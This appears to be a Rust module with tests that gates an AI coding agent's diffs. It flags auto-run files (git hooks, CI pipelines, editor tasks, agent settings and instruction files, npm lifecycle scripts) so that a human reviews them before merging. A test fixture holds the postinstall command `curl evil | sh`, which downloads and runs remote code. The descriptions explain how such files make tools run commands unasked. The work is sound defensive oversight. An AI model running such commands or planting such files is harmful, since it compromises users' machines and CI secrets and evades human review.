//! Files that other tools run or load on their own: the one list.
//!
//! A run's diff that adds, changes or deletes any of these is never merged
//! without a human (not by auto-advance, not by an autonomous supervisor):
//! once on the user's branch, they are run by the user's own tools, outside
//! any sandbox (an editor opening the folder, the shell entering it, git,
//! `npm install`, CI with the repository's secrets, the next agent session).
//!
//! [`auto_run_files`] takes a diff's changed files and returns each one that
//! is on the list, with a sentence saying what would run or load it. It is
//! judged from the diff only (paths, and for `package.json` the file's
//! content before and after), never from what the agent said it did.
//! Nested paths count: `sub/.vscode/tasks.json` is opened with `sub/`.

use serde::{Deserialize, Serialize};

/// How a file changed in the diff.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, ts_rs::TS)]
#[serde(rename_all = "snake_case")]
pub enum PathChange {
    Added,
    Changed,
    Deleted,
}

/// A changed file of a diff, as the matcher needs it. `before` and `after`
/// are the file's content on each side, read only for paths
/// [`needs_content`] names (None: the file does not exist on that side, or
/// its content could not be read).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ChangedFile {
    pub path: String,
    pub change: PathChange,
    pub before: Option<String>,
    pub after: Option<String>,
}

impl ChangedFile {
    /// A change judged by its path alone.
    pub fn new(path: impl Into<String>, change: PathChange) -> Self {
        ChangedFile {
            path: path.into(),
            change,
            before: None,
            after: None,
        }
    }
}

/// A file of the diff that another tool runs or loads on its own, and what
/// it would run. Paths and `runs` quote the diff: untrusted text.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, ts_rs::TS)]
pub struct AutoRunFile {
    pub path: String,
    pub change: PathChange,
    /// What runs or loads it, and what it can make run.
    pub runs: String,
}

/// Lifecycle scripts npm, yarn, pnpm and bun run on their own during
/// `install` (also of a dependency given by path or git), `pack` and
/// `publish`, in the order they run.
pub const PACKAGE_LIFECYCLE_SCRIPTS: &[&str] = &[
    "preinstall",
    "install",
    "postinstall",
    "preprepare",
    "prepare",
    "postprepare",
    "prepublish",
    "prepack",
    "postpack",
    "prepublishOnly",
    "preuninstall",
    "uninstall",
    "postuninstall",
    "dependencies",
    "pnpm:devPreinstall",
];

/// True for the paths whose content the matcher reads (a `package.json`
/// counts only when its lifecycle scripts change).
pub fn needs_content(path: &str) -> bool {
    file_name(path).eq_ignore_ascii_case("package.json")
}

/// Each file of `files` that another tool runs or loads on its own, with
/// what it would run, in the order given.
pub fn auto_run_files(files: &[ChangedFile]) -> Vec<AutoRunFile> {
    files
        .iter()
        .filter_map(|f| {
            let runs = if needs_content(&f.path) {
                package_scripts(f)?
            } else {
                what_runs(&f.path)?.to_owned()
            };
            Some(AutoRunFile {
                path: f.path.clone(),
                change: f.change,
                runs,
            })
        })
        .collect()
}

fn file_name(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

/// What runs or loads the file at `path` (relative to the repository's
/// root, `/`-separated), or None when nothing runs it on its own. Every
/// entry counts at any depth.
pub fn what_runs(path: &str) -> Option<&'static str> {
    // Case-insensitively: on macOS and Windows `.VSCode/Tasks.json` is
    // the file the editor opens.
    let lower = path.to_ascii_lowercase();
    let parts: Vec<&str> = lower.split('/').filter(|p| !p.is_empty()).collect();
    let (&name, dirs) = parts.split_last()?;
    // Directories whose every file is read by a tool, at any depth.
    for (i, dir) in dirs.iter().enumerate() {
        let rest = &parts[i + 1..];
        if let Some(runs) = in_directory(dir, rest) {
            return Some(runs);
        }
    }
    by_name(name)
}

/// A file anywhere under the directory `dir` (`rest`: the path below it).
fn in_directory(dir: &str, rest: &[&str]) -> Option<&'static str> {
    let first = rest.first().copied().unwrap_or_default();
    Some(match dir {
        ".claude" => "Claude Code's project settings, hooks, commands and agents: hooks run shell commands on the user's machine when Claude Code starts or uses a tool here, and permissions here let it act unasked",
        ".codex" => "Codex's project configuration: MCP servers (commands it starts), its sandbox and approval policy, its instructions",
        ".gemini" => "Gemini CLI's project settings: MCP servers (commands it starts), tools it may run unasked, custom commands",
        ".qwen" => "Qwen Code's project settings: MCP servers (commands it starts), tools it may run unasked, its approval mode",
        ".cursor" => "Cursor's project rules, MCP servers (commands it starts) and hooks (commands run on agent events)",
        ".opencode" => "OpenCode's project agents, commands and plugins (JavaScript it loads and runs), and permissions that let it act unasked",
        ".vscode" => match first {
            "tasks.json" => "VS Code tasks: a task with `runOptions.runOn: folderOpen` runs its shell command when the folder is opened",
            "settings.json" => "VS Code workspace settings: programs extensions and the terminal run (interpreters, formatters, linters, terminal profiles), and environment for them",
            "launch.json" => "VS Code debug configurations: the program and the pre-launch task run when debugging starts",
            _ => "VS Code workspace configuration: tasks, settings and launch configurations name commands the editor runs",
        },
        ".idea" => "JetBrains IDE project configuration: run configurations, startup tasks, external tools and file watchers that run programs",
        ".devcontainer" => "Dev Container definition: its image or Dockerfile and its lifecycle commands (`initializeCommand` runs on the host; `postCreateCommand`, `postStartCommand` in the container) run when the folder is opened in a container",
        ".husky" => "husky git hooks: shell scripts git runs on commit, push, merge and checkout once husky is installed (its `prepare` script, on `npm install`)",
        ".githooks" => "git hooks (with `core.hooksPath .githooks`): shell scripts git runs on commit, push, merge and checkout",
        ".github" if matches!(first, "workflows" | "actions") => "GitHub Actions: jobs run on the repository's runners on push or pull request, with its secrets",
        ".circleci" => "CircleCI pipeline: jobs run on push, with the project's secrets",
        ".buildkite" => "Buildkite pipeline: steps run on the organisation's agents, with their secrets",
        ".woodpecker" => "Woodpecker CI pipeline: steps run on push, with the repository's secrets",
        ".cargo" if matches!(first, "config.toml" | "config") => "Cargo configuration: `runner`, `rustc-wrapper`, aliases and environment that cargo (and rust-analyzer, on opening the folder) runs for every build and test",
        ".mvn" => "Maven wrapper and extensions: the Maven distribution `mvnw` downloads and runs, JVM options and build extensions loaded on every build (and on the IDE's import)",
        _ => return None,
    })
}

/// A file known by its name, at any depth.
fn by_name(name: &str) -> Option<&'static str> {
    Some(match name {
        ".mcp.json" => "MCP servers Claude Code (and other agents) start for this project: each entry is a command run on the user's machine",
        "opencode.json" | "opencode.jsonc" => "OpenCode's project configuration: permissions (`\"*\": \"allow\"` acts unasked), MCP servers and plugins it runs",
        "claude.md" | "claude.local.md" | "agents.md" | "gemini.md" | "qwen.md" | ".cursorrules" => "instructions every agent session here reads as the project's own: they can direct the next agent to run commands",
        ".envrc" => "direnv: shell code the user's shell runs on entering the directory (once allowed, or at once where the directory is whitelisted)",
        ".env" => "environment file loaded into programs' environment by tools (direnv's `dotenv`, Docker Compose, VS Code's Python extension, bun, mise): variables such as `NODE_OPTIONS`, `LD_PRELOAD` or `PYTHONSTARTUP` make them run code",
        "mise.toml" | ".mise.toml" => "mise configuration: environment, tasks and hooks mise runs on entering the directory",
        ".devcontainer.json" => "Dev Container definition: its lifecycle commands (`initializeCommand` on the host) run when the folder is opened in a container",
        ".gitattributes" => "git attributes: put files under filters (clean/smudge) and diff and merge drivers, which the user's git runs (the commands their git configuration names, e.g. git-lfs) on checkout, add, diff and merge",
        ".gitmodules" => "git submodules: the repositories (URLs) git clones and checks out into the tree on `git submodule update` or a recursive clone or pull",
        ".lfsconfig" => "git-lfs configuration: where git-lfs downloads files from and uploads them to",
        ".pre-commit-config.yaml" => "pre-commit hooks: repositories pre-commit installs and commands it runs on every commit",
        "lefthook.yml" | "lefthook.yaml" | ".lefthook.yml" | ".lefthook.yaml" | "lefthook-local.yml" | ".lefthook-local.yml" => "lefthook git hooks: commands run on commit, push and checkout",
        ".gitlab-ci.yml" => "GitLab CI pipeline: jobs run on push, with the project's CI variables (secrets)",
        ".travis.yml" => "Travis CI pipeline: jobs run on push, with the repository's secrets",
        "azure-pipelines.yml" | "azure-pipelines.yaml" => "Azure Pipelines: jobs run on push, with the pipeline's secrets",
        "bitbucket-pipelines.yml" => "Bitbucket Pipelines: steps run on push, with the repository's variables",
        "jenkinsfile" => "Jenkins pipeline: Groovy and shell steps run on the Jenkins agents, with their credentials",
        ".drone.yml" | ".woodpecker.yml" | ".woodpecker.yaml" => "CI pipeline (Drone / Woodpecker): steps run on push, with the repository's secrets",
        ".npmrc" => "npm configuration: `node-options`, `script-shell` and registries npm uses when it installs and runs scripts",
        ".yarnrc" | ".yarnrc.yml" => "Yarn configuration: `yarnPath` (`yarn-path`) is a JavaScript file run as yarn itself by every `yarn` command here; plugins and registries",
        ".pnpmfile.cjs" | "pnpmfile.js" => "pnpm hooks: JavaScript pnpm runs on every install",
        "bunfig.toml" => "bun configuration: `preload` scripts run before every `bun run` and `bun test`",
        "build.rs" => "Cargo build script: Rust run on every `cargo build`, `check` and `test`, and by rust-analyzer when the folder is opened in an editor",
        "rust-toolchain" | "rust-toolchain.toml" => "rustup toolchain file: the toolchain (its `path`: any directory's cargo and rustc) every cargo command and rust-analyzer runs here",
        "setup.py" => "Python setup script: Python run when the package is built or installed (`pip install .`, `pip install -e .`)",
        "gradle-wrapper.properties" => "Gradle wrapper: the Gradle distribution (`distributionUrl`) `gradlew` and the IDE's import download and run",
        _ if name.starts_with(".env.") && !matches!(name, ".env.example" | ".env.sample" | ".env.template") => {
            "environment file loaded into programs' environment by tools (Docker Compose, bun, frameworks' dotenv): variables such as `NODE_OPTIONS` or `LD_PRELOAD` make them run code"
        }
        _ => return None,
    })
}

/// A `package.json` counts when a lifecycle script is added or changed
/// (removing one, or the file, runs nothing); a `package.json` whose new
/// content could not be read or is not JSON counts too (what it runs cannot
/// be told).
fn package_scripts(f: &ChangedFile) -> Option<String> {
    if f.change == PathChange::Deleted {
        return None;
    }
    let Some(after) = f.after.as_deref().and_then(scripts_of) else {
        return Some(
            "package.json that could not be read as JSON: its lifecycle scripts (run by `npm install`) cannot be checked".to_owned(),
        );
    };
    let before = f.before.as_deref().and_then(scripts_of).unwrap_or_default();
    let changed: Vec<String> = PACKAGE_LIFECYCLE_SCRIPTS
        .iter()
        .filter_map(|name| {
            let now = after.get(*name)?;
            if before.get(*name) == Some(now) {
                return None;
            }
            Some(format!("`{name}`: {}", clip(now, 200)))
        })
        .collect();
    if changed.is_empty() {
        return None;
    }
    Some(format!(
        "npm lifecycle script{} run by `npm install` (also yarn, pnpm, bun) in this directory, or when it is installed as a dependency: {}",
        if changed.len() == 1 { "" } else { "s" },
        changed.join("; ")
    ))
}

/// The `scripts` of a package.json (strings only), or None when the text is
/// not a JSON object. A missing or malformed `scripts` is empty.
fn scripts_of(text: &str) -> Option<std::collections::BTreeMap<String, String>> {
    let v: serde_json::Value = serde_json::from_str(text).ok()?;
    let obj = v.as_object()?;
    let scripts = obj
        .get("scripts")
        .and_then(|s| s.as_object())
        .map(|s| {
            s.iter()
                .map(|(k, v)| {
                    let text = match v.as_str() {
                        Some(s) => s.to_owned(),
                        None => v.to_string(),
                    };
                    (k.clone(), text)
                })
                .collect()
        })
        .unwrap_or_default();
    Some(scripts)
}

fn clip(s: &str, max: usize) -> String {
    if s.chars().count() <= max {
        return s.to_owned();
    }
    let cut: String = s.chars().take(max - 1).collect();
    format!("{cut}…")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn paths(files: &[ChangedFile]) -> Vec<String> {
        auto_run_files(files).into_iter().map(|f| f.path).collect()
    }

    #[test]
    fn every_listed_path_counts_at_the_root_and_nested() {
        let listed = [
            ".claude/settings.json",
            ".claude/commands/x.md",
            ".mcp.json",
            ".codex/config.toml",
            ".gemini/settings.json",
            ".cursor/mcp.json",
            "opencode.json",
            "opencode.jsonc",
            ".opencode/plugin/x.js",
            ".qwen/settings.json",
            "CLAUDE.md",
            "AGENTS.md",
            "GEMINI.md",
            ".vscode/tasks.json",
            ".vscode/settings.json",
            ".vscode/extensions.json",
            ".idea/workspace.xml",
            ".devcontainer/devcontainer.json",
            ".devcontainer.json",
            ".envrc",
            ".env",
            ".env.local",
            ".gitattributes",
            ".gitmodules",
            ".husky/pre-commit",
            ".pre-commit-config.yaml",
            "lefthook.yml",
            ".github/workflows/x.yml",
            ".github/actions/setup/action.yml",
            ".gitlab-ci.yml",
            ".circleci/config.yml",
            "Jenkinsfile",
            ".npmrc",
            ".yarnrc.yml",
            "build.rs",
            "rust-toolchain.toml",
            ".cargo/config.toml",
            "setup.py",
            "mise.toml",
        ];
        for p in listed {
            for path in [p.to_owned(), format!("sub/dir/{p}")] {
                let got = what_runs(&path);
                assert!(got.is_some(), "{path} must be listed");
                assert!(!got.unwrap_or_default().is_empty());
            }
        }
    }

    #[test]
    fn ordinary_files_and_look_alikes_do_not_count() {
        for p in [
            "src/main.rs",
            "README.md",
            "docs/CLAUDE.md.txt",
            "vscode/tasks.json",
            "my.claude/x",
            ".github/CODEOWNERS",
            ".github/ISSUE_TEMPLATE/bug.md",
            ".cargo/registry/x",
            ".env.example",
            "environment",
            "src/build.rs.bak",
            "claude.md.orig",
            "",
            "/",
        ] {
            assert_eq!(what_runs(p), None, "{p}");
        }
    }

    #[test]
    fn names_match_whatever_their_case() {
        for p in [
            ".VSCode/Tasks.json",
            "Claude.md",
            "sub/.ENVRC",
            "jenkinsfile",
            ".Github/Workflows/x.yml",
        ] {
            assert!(what_runs(p).is_some(), "{p}");
        }
    }

    #[test]
    fn each_file_says_what_runs_it() {
        let got = auto_run_files(&[
            ChangedFile::new(".vscode/tasks.json", PathChange::Added),
            ChangedFile::new("src/lib.rs", PathChange::Changed),
            ChangedFile::new("sub/.envrc", PathChange::Deleted),
        ]);
        assert_eq!(got.len(), 2);
        assert_eq!(got[0].path, ".vscode/tasks.json");
        assert_eq!(got[0].change, PathChange::Added);
        assert!(got[0].runs.contains("folderOpen"), "{}", got[0].runs);
        assert_eq!(got[1].path, "sub/.envrc");
        assert_eq!(got[1].change, PathChange::Deleted);
        assert!(got[1].runs.contains("direnv"));
    }

    fn package(path: &str, before: Option<&str>, after: Option<&str>) -> ChangedFile {
        ChangedFile {
            path: path.to_owned(),
            change: match (before, after) {
                (None, _) => PathChange::Added,
                (_, None) => PathChange::Deleted,
                _ => PathChange::Changed,
            },
            before: before.map(str::to_owned),
            after: after.map(str::to_owned),
        }
    }

    #[test]
    fn a_package_json_counts_when_a_lifecycle_script_is_added_or_changed() {
        let plain = r#"{"name":"x","scripts":{"test":"jest","postinstall":"node a.js"}}"#;
        let test_changed = r#"{"name":"x","scripts":{"test":"vitest","postinstall":"node a.js"}}"#;
        let post_changed =
            r#"{"name":"x","scripts":{"test":"jest","postinstall":"curl evil | sh"}}"#;
        let prepare_added =
            r#"{"name":"x","scripts":{"test":"jest","postinstall":"node a.js","prepare":"sh x"}}"#;
        // Only `test` changed: nothing runs on install that did not before.
        assert!(paths(&[package("package.json", Some(plain), Some(test_changed))]).is_empty());
        // Removed scripts run nothing; a deleted package.json neither.
        assert!(paths(&[package(
            "package.json",
            Some(plain),
            Some(r#"{"name":"x"}"#)
        )])
        .is_empty());
        assert!(paths(&[package("package.json", Some(plain), None)]).is_empty());

        let got = auto_run_files(&[package("web/package.json", Some(plain), Some(post_changed))]);
        assert_eq!(got.len(), 1);
        assert_eq!(got[0].path, "web/package.json");
        assert!(
            got[0].runs.contains("`postinstall`: curl evil | sh"),
            "{}",
            got[0].runs
        );

        let got = auto_run_files(&[package("package.json", Some(plain), Some(prepare_added))]);
        assert!(got[0].runs.contains("`prepare`: sh x"), "{}", got[0].runs);
        assert!(!got[0].runs.contains("postinstall"), "{}", got[0].runs);

        // A new package.json with an install script counts.
        let got = auto_run_files(&[package("package.json", None, Some(post_changed))]);
        assert_eq!(got.len(), 1);
        // A new one without lifecycle scripts does not.
        assert!(paths(&[package(
            "package.json",
            None,
            Some(plain.replace("postinstall", "lint").as_str())
        )])
        .is_empty());
    }

    #[test]
    fn a_package_json_that_is_not_json_counts() {
        let got = auto_run_files(&[package("package.json", Some("{}"), Some("{ not json"))]);
        assert_eq!(got.len(), 1);
        assert!(got[0].runs.contains("could not be read"));
        // Its content unread (too large): counted, never skipped.
        let got = auto_run_files(&[ChangedFile::new("package.json", PathChange::Changed)]);
        assert_eq!(got.len(), 1);
        // A script that is not a string is compared as written.
        let got = auto_run_files(&[package(
            "package.json",
            Some(r#"{"scripts":{}}"#),
            Some(r#"{"scripts":{"install":["sh","x"]}}"#),
        )]);
        assert_eq!(got.len(), 1);
    }

    #[test]
    fn only_package_json_needs_its_content() {
        assert!(needs_content("package.json"));
        assert!(needs_content("a/b/package.json"));
        assert!(!needs_content("package-lock.json"));
        assert!(!needs_content(".vscode/tasks.json"));
    }
}
